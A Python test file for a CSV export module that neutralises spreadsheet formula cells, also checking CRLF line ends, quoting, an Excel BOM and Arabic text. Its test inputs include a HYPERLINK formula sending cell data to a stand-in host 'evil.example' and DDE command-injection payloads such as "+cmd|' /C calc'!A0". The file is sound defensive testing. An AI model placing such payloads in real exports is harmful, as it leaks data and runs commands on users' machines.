"""CSV exports: formula cells made inert, RFC 4180 line ends, a BOM for Excel, Arabic intact."""

from __future__ import annotations

import csv
import io

import pytest

from workbench.core.csv_export import neutralise_cell, write_csv


def _write(rows: list[dict[str, object]], columns: list[str], *, excel_bom: bool = False) -> str:
    out = io.StringIO(newline="")
    write_csv(rows, columns, out, excel_bom=excel_bom)
    return out.getvalue()


def test_a_hyperlink_formula_becomes_inert_text() -> None:
    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'

    text = _write([{"claim": formula}], ["claim"])

    cell = next(iter(csv.reader(io.StringIO(text[text.index("\r\n") + 2 :]))))[0]
    assert cell == "'" + formula


@pytest.mark.parametrize(
    "dangerous",
    [
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
        "＋1",
        "－1+cmd",
        "＠SUM(A1)",
    ],
)
def test_cells_that_a_spreadsheet_would_run_are_prefixed_with_a_quote(dangerous: str) -> None:
    assert neutralise_cell(dangerous) == "'" + dangerous


@pytest.mark.parametrize("number", ["-3.5", "-12", "+4", "-0.25", "-1e3", ".5"])
def test_plain_numbers_written_as_text_stay_numbers(number: str) -> None:
    assert neutralise_cell(number) == number


def test_numbers_from_the_program_are_never_prefixed() -> None:
    assert neutralise_cell(-3) == "-3"
    assert neutralise_cell(-0.5) == "-0.5"
    assert neutralise_cell(None) == ""
    assert neutralise_cell(True) == "true"


def test_text_with_a_formula_character_later_on_is_unchanged() -> None:
    assert neutralise_cell("Reuters - anonymous source") == "Reuters - anonymous source"
    assert neutralise_cell("قال = مصدر") == "قال = مصدر"


def test_lines_end_with_crlf_and_missing_columns_are_empty() -> None:
    text = _write([{"id": 1, "claim": "a"}, {"id": 2}], ["id", "claim", "rating"])

    assert text == "id,claim,rating\r\n1,a,\r\n2,,\r\n"


def test_commas_quotes_and_newlines_are_quoted_only_where_needed() -> None:
    text = _write(
        [{"a": 'He said "no", twice', "b": "line one\nline two", "c": "plain"}], list("abc")
    )

    assert text.splitlines(keepends=True)[1] == '"He said ""no"", twice","line one\n'
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[1] == ['He said "no", twice', "line one\nline two", "plain"]


def test_arabic_round_trips_and_the_bom_is_written_only_when_asked() -> None:
    rows: list[dict[str, object]] = [{"claim": "قال مصدر دبلوماسي تركي", "rating": "زائف"}]

    with_bom = _write(rows, ["claim", "rating"], excel_bom=True)
    without_bom = _write(rows, ["claim", "rating"])

    assert with_bom.startswith("\ufeffclaim,rating\r\n")
    assert not without_bom.startswith("\ufeff")
    decoded = with_bom.encode("utf-8").decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(decoded)))[1] == ["قال مصدر دبلوماسي تركي", "زائف"]


def test_header_cells_are_neutralised_too() -> None:
    text = _write([], ["=evil", "ok"])

    assert text == "'=evil,ok\r\n"
